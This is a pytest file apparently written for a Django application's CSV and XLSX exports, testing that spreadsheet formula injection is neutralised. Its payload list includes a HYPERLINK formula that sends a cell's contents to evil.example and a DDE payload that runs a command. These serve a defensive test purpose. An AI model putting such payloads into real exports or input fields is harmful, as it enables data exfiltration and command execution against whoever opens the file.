"""Formulas exported verbatim: a sender's value such as ``=HYPERLINK(...)`` or ``=cmd|' /C calc'!A0``
must reach every CSV export as text (a leading ``'``, OWASP's rule) and every XLSX export as a
text cell, never as a formula (docs/security.md, "Spreadsheet formula injection").

Each CSV endpoint and command is exercised end to end: the commune's dossier list, a batch's
rejection report, the admin's audit export, the audit page's export and ``export_scores``.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from kpixa.accounts import audit
from kpixa.accounts.models import AuditEntry, User
from kpixa.frameworks.services import install_framework, shipped_files
from kpixa.scoring.services.scores import Providers, compute_scores
from kpixa.spreadsheet_safety import append_row, as_text, is_formula_like, safe_cell
from kpixa.web.exports.xlsx import _merged, write_row

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(1+1)", "\t=1+2", "\r=1+2", " =1+2")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _assert_defused(rows: list[list[str]], payloads: tuple[str, ...] = PAYLOADS) -> None:
    """Every payload is there with a leading quote, and no cell could run as a formula."""
    cells = [cell for row in rows for cell in row]
    for payload in payloads:
        assert "'" + payload in cells, payload
        assert payload not in cells, payload
    for cell in cells:
        assert not is_formula_like(cell) or _is_number(cell), cell


def _is_number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", text) is not None


def _streamed(response: Any) -> str:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode("utf-8")


# --- the rule ---------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_quotes_every_formula_like_text_cell(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Xã Ia Dom", "H52.23872-250801-0001", "", "a=b", "1.004227", "'=x"])
def test_it_keeps_ordinary_text_as_it_is(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-1.25"), 0, None, True])
def test_it_writes_numbers_as_numbers_even_negative_ones(value: Any) -> None:
    assert safe_cell(value) is value


def test_it_quotes_negative_numbers_that_arrive_as_text() -> None:
    assert safe_cell("-5") == "'-5"


def test_it_leaves_no_csv_writer_outside_the_one_helper() -> None:
    """Every CSV export goes through kpixa.spreadsheet_safety.csv_writer (one place for the rule)."""
    offenders = []
    for path in (ROOT / "kpixa").rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheet_safety.py":
            continue
        text = path.read_text("utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\bDictWriter\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# --- the commune's dossier list ---------------------------------------------------------------


def _dossier(world: Any, number: int, ma_ho_so: str, procedure: Any) -> Any:
    from kpixa.dossiers.models import Dossier

    received = datetime(2025, 8, 1, 2, 0, tzinfo=UTC) + timedelta(hours=number)
    due = received + timedelta(days=5)
    end = due + timedelta(days=3)
    return Dossier(
        source_system="MCDT",
        ma_ho_so=ma_ho_so,
        commune=world.commune,
        procedure=procedure,
        procedure_code=procedure.code,
        status=10,
        received_at=received,
        received_day=received.date(),
        due_at=due,
        effective_due_at=due,
        finished_at=end,
        end_at=end,
        end_day=end.date(),
        on_time=False,
        overdue_at=due,
        overdue_day=due.date(),
        owner_name=DDE,
        version_at=end,
        version_hash=f"h{number}",
        ingested_at=end,
    )


def test_it_defuses_formulas_in_the_commune_dossier_csv(world: Any) -> None:
    from kpixa.dossiers.models import Dossier, Procedure

    procedure = Procedure.objects.create(code="9.999999", name=DDE, limit_value=5)
    Dossier.objects.bulk_create([_dossier(world, n, p, procedure) for n, p in enumerate(PAYLOADS)])
    client = Client()
    client.force_login(world.users["commune_officer"])
    text = _streamed(client.get("/xa/23872/ho-so.csv?outcome=total&period=2025-Q3"))
    rows = _rows(text)
    assert len(rows) == 1 + len(PAYLOADS)
    _assert_defused(rows)
    assert all(row[2] == "'" + DDE for row in rows[1:])  # the procedure's name too


# --- a batch's rejection report ---------------------------------------------------------------


def test_it_defuses_formulas_in_the_rejection_csv(world: Any) -> None:
    from kpixa.dossiers.models import ImportBatch, Rejection

    officer = world.users["commune_officer"]
    batch = ImportBatch.objects.create(
        kind="dossier",
        source_system="MCDT",
        province=world.province,
        commune=world.commune,
        created_by=officer,
    )
    Rejection.objects.bulk_create(
        Rejection(
            batch=batch,
            row=n + 1,
            record_key=payload,
            field="ChuHoSo",
            value=payload,
            reason_vi=payload,
            raw={"MaHoSo": payload},
        )
        for n, payload in enumerate(PAYLOADS)
    )
    client = Client()
    client.force_login(officer)
    rows = _rows(_streamed(client.get(f"/dossiers/jobs/{batch.pk}/rejections.csv")))
    assert len(rows) == 1 + len(PAYLOADS)
    _assert_defused(rows)


# --- the audit exports ------------------------------------------------------------------------


@pytest.fixture
def poisoned_entries(world: Any) -> list[AuditEntry]:
    for payload in PAYLOADS:
        audit.record(
            "test.poisoned",
            actor_label=payload,
            object_type="x",
            object_id=payload,
            province_code="52",
            reason=payload,
        )
    return list(AuditEntry.objects.filter(action="test.poisoned"))


def test_it_defuses_formulas_in_the_admin_audit_csv(poisoned_entries: list[AuditEntry]) -> None:
    root = User.objects.create_superuser(username="csv_root", password=None)
    client = Client()
    client.force_login(root)
    response = client.post(
        "/admin/accounts/auditentry/",
        {"action": "export_csv", "_selected_action": [e.pk for e in poisoned_entries]},
    )
    rows = _rows(_streamed(response))
    assert len(rows) == 1 + len(PAYLOADS)
    _assert_defused(rows)


def test_it_defuses_formulas_in_the_audit_page_csv(world: Any, poisoned_entries: list[AuditEntry]) -> None:
    client = Client()
    client.force_login(world.users["province_admin"])
    rows = _rows(_streamed(client.get("/accounts/audit.csv", {"action": "test.poisoned"})))
    assert len(rows) == 1 + len(PAYLOADS)
    _assert_defused(rows)


# --- export_scores (CSV and XLSX) -------------------------------------------------------------


@pytest.fixture
def poisoned_scores(world: Any) -> Any:
    """Stored scores of a commune whose name is a formula (names come from the unit list)."""
    for path in shipped_files():
        install_framework(path.read_text("utf-8"), activate=True, source_name=path.name)
    world.commune.name = DDE
    world.commune.save(update_fields=["name"])
    counts = {world.commune.pk: {"dossiers.total": 10, "dossiers.on_time": 7, "dossiers.late": 3}}
    providers = Providers(
        measures=lambda ids, start, end: {i: counts[i] for i in ids if i in counts},
        reported=lambda ids, period: {},
    )
    compute_scores("dvc766", "2025-07", "52", providers=providers)
    return world


def _export(fmt: str, target: Path) -> None:
    call_command(
        "export_scores",
        "--framework",
        "dvc766",
        "--period",
        "2025-07",
        "--format",
        fmt,
        "--output",
        str(target),
    )


def test_it_defuses_formulas_in_the_export_scores_csv(poisoned_scores: Any, tmp_path: Path) -> None:
    target = tmp_path / "scores.csv"
    _export("csv", target)
    rows = _rows(target.read_text("utf-8"))
    assert any(row[0] == "23872" for row in rows[1:])
    _assert_defused(rows, (DDE,))


def test_it_writes_formulas_in_the_export_scores_xlsx_as_text(poisoned_scores: Any, tmp_path: Path) -> None:
    target = tmp_path / "scores.xlsx"
    _export("xlsx", target)
    book = load_workbook(target)
    names = [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == DDE
    ]
    assert names and all(kind == "s" for _value, kind in names)
    assert not any(
        cell.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    )


# --- XLSX cells -------------------------------------------------------------------------------


def _reloaded(book: Workbook) -> Any:
    out = io.BytesIO()
    book.save(out)
    out.seek(0)
    return load_workbook(out).active


def test_openpyxl_alone_would_write_a_formula() -> None:
    """The reason for ``as_text``: openpyxl stores a string starting with "=" as a formula."""
    book = Workbook()
    book.active.append([HYPERLINK])  # type: ignore[union-attr]
    assert _reloaded(book)["A1"].data_type == "f"


def test_it_keeps_formula_like_strings_as_xlsx_text_cells() -> None:
    book = Workbook()
    sheet: Any = book.active
    append_row(sheet, [HYPERLINK, DDE, -5, "-5"])
    write_row(sheet, 2, [HYPERLINK, Decimal("-1.5"), DDE])
    as_text(sheet.cell(row=3, column=1, value="=1+2"))
    _merged(sheet, 4, 1, 3, DDE, Font())  # the official reports' headers and summary lines
    loaded = _reloaded(book)
    assert [(c.value, c.data_type) for c in loaded[1]] == [
        (HYPERLINK, "s"),
        (DDE, "s"),
        (-5, "n"),
        ("-5", "s"),
    ]
    assert [(c.value, c.data_type) for c in loaded[2]][:3] == [(HYPERLINK, "s"), (-1.5, "n"), (DDE, "s")]
    assert (loaded["A3"].value, loaded["A3"].data_type) == ("=1+2", "s")
    assert (loaded["A4"].value, loaded["A4"].data_type) == (DDE, "s")
